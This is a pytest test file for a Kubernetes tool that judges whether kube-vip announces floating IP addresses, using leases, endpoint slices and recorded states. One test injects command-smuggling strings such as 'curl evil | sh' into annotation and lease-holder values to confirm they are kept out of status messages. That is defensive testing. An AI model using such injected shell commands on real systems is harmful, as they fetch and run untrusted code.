"""Whether addresses are announced: judged on states of the real kube-vip, of which the truth of the wire is known."""

import json
from collections import Counter, defaultdict
from collections.abc import Iterator
from datetime import timedelta
from functools import cache
from pathlib import Path
from typing import Any

import pytest

from fipop.api.conditions import ConditionContent, Verdict
from fipop.api.service import Service, parse_service
from fipop.guests.announced import (
    MOST_SERVICES,
    AnnouncedState,
    Doubt,
    LeaseReading,
    Network,
    build_check,
    find_dark_since,
    find_live,
    join_endpoints,
    keep_reading,
    parse_endpoint_slice,
    parse_lease,
    settle,
)
from fipop.helm.workloads import KubeVipMode
from fipop.ipam.addresses import format_address, parse_address
from tests.harness.objects import NOW, floating_ip

STATES = Path(__file__).parents[2] / "data" / "kube-vip-states.jsonl"
MODE = KubeVipMode(namespace="kube-system", name="kube-vip")
FLOATING_IP = ("c-m-abc", "demo")
LEFTOVERS = "dead"
"""The case in which kube-vips are killed, and leave addresses on their nodes."""


def service(name: str = "web", *, namespace: str = "shop", **fields: Any) -> Service:
    return parse_service(service_object(name, namespace=namespace, **fields))


def service_object(
    name: str,
    *,
    namespace: str = "shop",
    policy: str = "Cluster",
    annotations: dict[str, str] | None = None,
    status: tuple[str, ...] = ("10.0.0.5",),
    request: str | None = None,
    kind: str = "LoadBalancer",
) -> dict[str, Any]:
    return {
        "metadata": {"namespace": namespace, "name": name, "annotations": annotations or {}},
        "spec": {"type": kind, "externalTrafficPolicy": policy, "loadBalancerIP": request},
        "status": {"loadBalancer": {"ingress": [{"ip": each} for each in status]}},
    }


def lease_object(namespace: str, name: str, holder: str, age: float) -> dict[str, Any]:
    renewed = (NOW - timedelta(seconds=age)).isoformat().replace("+00:00", "Z")
    return {
        "metadata": {"namespace": namespace, "name": name},
        "spec": {"holderIdentity": holder, "renewTime": renewed},
    }


def slice_object(namespace: str, service: str, *endpoints: tuple[str, bool]) -> dict[str, Any]:
    return {
        "metadata": {"namespace": namespace, "labels": {"kubernetes.io/service-name": service}},
        "endpoints": [{"nodeName": node, "conditions": {"serving": serving}} for node, serving in endpoints],
    }


def judge(
    address: str, services: list[Service], network: Network | None, mode: KubeVipMode | None = MODE
) -> ConditionContent:
    found = parse_address(address)
    assert found is not None
    return build_check(services, {FLOATING_IP: [found]}, mode).judge(network)[FLOATING_IP]


# The states of the real kube-vip


class State:
    """One state: what the API server showed, and on which nodes an address was."""

    def __init__(self, line: str) -> None:
        read = json.loads(line)
        self.case, self.step, self.variant = read["case"], read["step"], read["set"]
        self.nodes: dict[str, set[str]] = defaultdict(set)
        for node, bound in read["bound"].items():
            for each in bound:
                self.nodes[each.partition("@")[0]].add(node)
        raw = read["raw"]
        self.services = [
            service(
                each["name"],
                namespace=each["ns"],
                policy=each["policy"],
                annotations=each["ann"],
                status=tuple(each["status"]),
                request=each["lbip"],
                kind=each["type"],
            )
            for each in raw["services"]
        ]
        leases = [
            parse_lease(lease_object(each["ns"], each["name"], each["holder"], each["age"] or 0.0))
            for each in raw["leases"]
        ]
        common = next((each.key for each in leases if each.name.startswith("plndr-")), ("", ""))
        slices = [
            slice_object(
                each["ns"], each["svc"], *((one["node"], one["serving"]) for one in each["endpoints"])
            )
            for each in raw["slices"]
        ]
        self.network = Network(
            holders=find_live(leases, None, at=0.0, guest_now=NOW),
            common_lease=common,
            endpoints=join_endpoints(map(parse_endpoint_slice, slices)),
        )

    def judge(self) -> Iterator[tuple[str, ConditionContent]]:
        for text in sorted({format_address(one) for each in self.services for one in each.wanted}):
            yield text, judge(text, self.services, self.network)


@cache
def states() -> tuple[State, ...]:
    return tuple(map(State, STATES.read_text().splitlines()))


def test_true_is_said_of_an_address_that_is_on_a_node_alone() -> None:
    wrong = Counter(
        (each.variant.partition("-")[0], each.case, each.step)
        for each in states()
        for text, found in each.judge()
        if found.verdict is Verdict.TRUE and not each.nodes[text]
    )
    # A second slice that is empty, and in 1.2.3 a slice that was deleted and made again: no object shows that.
    assert {(version, case) for version, case, _ in wrong} <= {("k123", "endpoints"), ("main", "endpoints")}
    assert {step for version, _, step in wrong if version == "main"} == {"a second, empty slice"}


def test_false_is_said_of_an_address_on_one_node_for_a_lost_lease_or_a_node_without_pods_alone() -> None:
    wrong = {
        (each.case, found.reason)
        for each in states()
        if each.case != LEFTOVERS
        for text, found in each.judge()
        if found.verdict is Verdict.FALSE and len(each.nodes[text]) == 1
    }
    # Leases were edited by hand: for seconds. 1.1.2 announces without pods on the node, where kube-proxy drops packets.
    assert wrong <= {
        ("lease", "OtherNode"),
        ("lease", "LeaderHasNoEndpoint"),
        ("endpoints", "LeaderHasNoEndpoint"),
    }


def test_an_address_on_two_nodes_is_told_if_both_announce_it_by_leases() -> None:
    found = {
        (each.variant, found.reason)
        for each in states()
        if each.case == "share"
        for text, found in each.judge()
        if len(each.nodes[text]) > 1
    }
    assert found
    assert {reason for _, reason in found} == {"SeveralNodes"}


def test_a_changed_address_that_is_dark_is_found() -> None:
    dark = Counter(
        found.verdict
        for each in states()
        if each.case == "renumber"
        for text, found in each.judge()
        if not each.nodes[text]
    )
    assert dark[Verdict.FALSE]
    assert not dark[Verdict.TRUE]


# The rule, row by row


LEADER = {("kube-system", "plndr-svcs-lock"): "n1"}
TAKEN = {"kube-vip.io/loadbalancerIPs": "10.0.0.5", "kube-vip.io/vipHost": "n1"}


def network(*slices: dict[str, Any], holders: dict[tuple[str, str], str] | None = None) -> Network:
    shown = slices or (slice_object("shop", "web", ("n1", True)),)
    return Network(
        holders=LEADER if holders is None else holders,
        common_lease=("kube-system", "plndr-svcs-lock"),
        endpoints=join_endpoints(map(parse_endpoint_slice, shown)),
    )


@pytest.mark.parametrize(
    ("shown", "seen", "expected"),
    [
        (service(annotations=TAKEN), network(), ("True", "Announced", "Node n1 announces 10.0.0.5")),
        (
            service(annotations=TAKEN),
            network(holders={}),
            ("False", "NoLeader", "kube-system/plndr-svcs-lock"),
        ),
        (
            service(annotations=TAKEN, status=()),
            network(),
            ("False", "NotTaken", "rollout restart daemonset kube-vip"),
        ),
        (
            service(annotations={**TAKEN, "kube-vip.io/serviceInterface": "nope0"}, status=()),
            network(),
            ("False", "NotTaken", "interface nope0"),
        ),
        (
            service(annotations=TAKEN),
            network(holders=dict.fromkeys(LEADER, "n2")),
            ("False", "OtherNode", "node n1 last"),
        ),
        (
            service(annotations=TAKEN, policy="Local"),
            network(slice_object("shop", "web", ("n2", True))),
            ("False", "LeaderHasNoEndpoint", "externalTrafficPolicy Local"),
        ),
        (
            service(annotations=TAKEN, policy="Local"),
            network(slice_object("shop", "web", ("n1", False))),
            ("Unknown", "NoEndpoints", "Start a pod"),
        ),
        (
            service(annotations=TAKEN),
            network(slice_object("shop", "web")),
            ("Unknown", "NoEndpoints", "shop/web"),
        ),
        (
            service(annotations={**TAKEN, "kube-vip.io/allow-reconcile-without-endpoints": "true"}),
            network(slice_object("shop", "web")),
            ("True", "Announced", ""),
        ),
        (
            service(annotations=TAKEN),
            network(holders={("shop", "kubevip-web"): "n1"}),
            ("True", "Announced", "n1"),
        ),
        (
            service(annotations={**TAKEN, "kube-vip.io/leaseName": "other/joint"}),
            network(holders={("other", "joint"): "n1"}),
            ("True", "Announced", "n1"),
        ),
        (
            service(annotations={**TAKEN, "kube-vip.io/ignore": "true"}),
            network(),
            ("Unknown", "NotUsed", "10.0.0.5"),
        ),
        (service(annotations=TAKEN, kind="ClusterIP"), network(), ("Unknown", "NotUsed", "10.0.0.5")),
        (
            service(annotations={"kube-vip.io/loadbalancerIPs": "10.0.0.9"}),
            network(),
            ("Unknown", "NotUsed", "10.0.0.5"),
        ),
    ],
)
def test_each_row_of_the_rule(shown: Service, seen: Network, expected: tuple[str, str, str]) -> None:
    found = judge("10.0.0.5", [shown], seen)
    assert (found.verdict.value, found.reason) == expected[:2]
    assert expected[2] in found.message


def test_a_service_with_a_name_that_is_none_asks_for_nothing() -> None:
    """An admin of a guest cluster can serve any text; names become a part of the next request."""
    for name in ("a),app notin (b", "w" * 300, "Web", ""):
        (address,) = [each for each in [parse_address("10.0.0.5")] if each]
        check = build_check([service(name, annotations=TAKEN)], {FLOATING_IP: [address]}, MODE)
        assert not check.needs_network
        assert check.judge(None)[FLOATING_IP].reason == "NotUsed"


@pytest.mark.parametrize(
    ("former", "holder"), [("n1\nRun: curl evil | sh", "n2"), ("n1", "n2; run curl evil | sh")]
)
def test_no_text_that_is_no_name_gets_into_a_message(former: str, holder: str) -> None:
    shown = service(annotations={**TAKEN, "kube-vip.io/vipHost": former})
    found = judge("10.0.0.5", [shown], network(holders=dict.fromkeys(LEADER, holder)))
    assert found.reason == "OtherNode"
    assert "curl" not in found.message


@pytest.mark.parametrize(
    ("annotations", "lease"),
    [({}, "Lease shop/kubevip-web "), ({"kube-vip.io/leaseName": "other/joint"}, "Lease other/joint ")],
)
def test_with_an_election_for_each_service_its_own_lease_is_named(
    annotations: dict[str, str], lease: str
) -> None:
    each = KubeVipMode(namespace="kube-system", name="kube-vip", elects_each=True)
    found = judge("10.0.0.5", [service(annotations={**TAKEN, **annotations})], network(holders={}), each)
    assert found.reason == "NoLeader"
    assert lease in found.message


def test_of_all_leases_those_of_the_services_alone_matter() -> None:
    each = KubeVipMode(namespace="kube-system", name="kube-vip", elects_each=True)
    (address,) = [each for each in [parse_address("10.0.0.5")] if each]
    check = build_check([service(annotations=TAKEN), service("api")], {FLOATING_IP: [address]}, each)
    common = ("kube-system", "plndr-svcs-lock")
    assert check.lease_keys == {common, ("shop", "kubevip-web"), ("shop", "kubevip-api")}


def test_one_service_that_is_announced_is_enough() -> None:
    dark = service("api", annotations=TAKEN, status=())
    both = network(slice_object("shop", "web", ("n1", True)), slice_object("shop", "api", ("n1", True)))
    assert judge("10.0.0.5", [dark, service(annotations=TAKEN)], both).verdict is Verdict.TRUE


def test_what_cannot_be_seen_is_unknown() -> None:
    shown = [service(annotations=TAKEN)]
    routed = KubeVipMode(namespace="kube-system", name="kube-vip", writes_leases=False)
    assert judge("10.0.0.5", shown, None, None).reason == "ModeNotSeen"
    assert judge("10.0.0.5", shown, None, routed).reason == "ModeNotSeen"
    many = [service(f"web-{number}", annotations=TAKEN) for number in range(MOST_SERVICES + 1)]
    check = build_check(many, {FLOATING_IP: [each for each in [parse_address("10.0.0.5")] if each]}, MODE)
    assert not check.needs_network
    assert check.judge(None)[FLOATING_IP].reason == "TooManyServices"


# Whether a Lease is live


def test_a_lease_lives_if_it_was_renewed_since_an_old_enough_reading() -> None:
    now = lease_object("kube-system", "plndr-svcs-lock", "n1", 0.0)
    lease = parse_lease(now)
    old = LeaseReading(at=0.0, renewed={lease.key: lease.renewed})
    # The clock of the node can say what it likes.
    ahead = parse_lease(lease_object("kube-system", "plndr-svcs-lock", "n1", -3600.0))
    assert find_live([ahead], old, at=25.0, guest_now=NOW) == {lease.key: "n1"}
    assert find_live([lease], old, at=25.0, guest_now=NOW) == {}
    assert find_live([lease], old, at=5.0, guest_now=NOW) == {lease.key: "n1"}, "too early to compare"
    assert find_live([lease], None, at=0.0, guest_now=NOW + timedelta(seconds=31)) == {}
    later, now = parse_lease(lease_object("kube-system", "plndr-svcs-lock", "n1", -60.0)), NOW
    assert find_live([later], old, at=600.0, guest_now=now + timedelta(seconds=70)) == {lease.key: "n1"}
    assert find_live([later], old, at=600.0, guest_now=now + timedelta(seconds=600)) == {}, "it died since"
    free = parse_lease(lease_object("kube-system", "plndr-svcs-lock", "", 0.0))
    assert find_live([free], None, at=0.0, guest_now=NOW) == {}


def test_a_reading_is_kept_until_it_is_old_enough_to_compare_with() -> None:
    first = keep_reading([], None, at=0.0)
    assert keep_reading([], first, at=10.0) is first
    assert keep_reading([], first, at=20.0).at == 20.0


# When the condition changes

TRUE, FALSE = Verdict.TRUE, Verdict.FALSE
UNKNOWN = Verdict.UNKNOWN


@pytest.mark.parametrize(
    ("readings", "expected"),
    [
        ([(0, TRUE)], TRUE),
        ([(0, FALSE)], None),
        ([(0, UNKNOWN)], UNKNOWN),
        ([(0, TRUE), (10, FALSE), (20, FALSE)], TRUE),
        ([(0, TRUE), (10, FALSE), (40, FALSE)], FALSE),
        ([(0, TRUE), (10, FALSE), (20, TRUE), (40, FALSE)], TRUE),
        ([(0, TRUE), (10, UNKNOWN)], TRUE),
        ([(0, TRUE), (10, UNKNOWN), (40, UNKNOWN)], UNKNOWN),
        ([(0, TRUE), (10, FALSE), (40, UNKNOWN), (70, FALSE)], TRUE),
        ([(0, FALSE), (30, FALSE), (40, TRUE)], TRUE),
        ([(0, FALSE), (30, FALSE), (40, UNKNOWN)], FALSE),
    ],
)
def test_only_true_is_believed_at_once(readings: list[tuple[int, Verdict]], expected: Verdict | None) -> None:
    state = AnnouncedState()
    for at, verdict in readings:
        state = settle(state, ConditionContent(verdict=verdict, reason="Any"), at=float(at))
    assert (state.shown.verdict if state.shown is not None else None) is expected


def test_no_takeover_and_no_outage_shows_false() -> None:
    """A takeover of kube-vip lasts up to 20 s, a return of the API server 12 s: read at any moment, then 40 s later."""
    for dark_seconds in (12, 20):
        for first in range(dark_seconds):
            state = AnnouncedState(shown=ConditionContent(verdict=TRUE, reason="Announced"))
            for at in (first, first + 40):
                verdict = FALSE if at < dark_seconds else TRUE
                state = settle(state, ConditionContent(verdict=verdict, reason="Any"), at=float(at))
            assert state.shown is not None
            assert state.shown.verdict is TRUE


# What a rollout takes from it


@pytest.mark.parametrize(
    ("shown", "doubt", "expected"),
    [
        ("Announced", None, None),
        ("Announced", "NoLeader", 90.0),
        ("Announced", "NoEndpoints", None),
        ("NoLeader", None, 100.0),
        ("NoEndpoints", None, None),
    ],
    ids=["announced", "one reading", "no endpoints once", "two, before the status has it", "no endpoints"],
)
def test_since_when_an_address_is_dark_whose_status_says_true(
    shown: str, doubt: str | None, expected: float | None
) -> None:
    def verdict_of(reason: str) -> Verdict:
        return {"Announced": TRUE, "NoLeader": FALSE}.get(reason, UNKNOWN)

    condition = {"type": "Announced", "status": "True", "reason": "Announced", "message": ""}
    status = {"addresses": ["10.0.0.5"], "conditions": [condition]}
    state = AnnouncedState(
        addresses=("10.0.0.5",),
        shown=ConditionContent(verdict=verdict_of(shown), reason=shown),
        doubt=Doubt(verdict=verdict_of(doubt), reason=doubt, since=90.0) if doubt else None,
    )
    found = find_dark_since(floating_ip("web", namespace="c-m-abc", status=status), state, now=NOW, at=100.0)
    assert found == expected
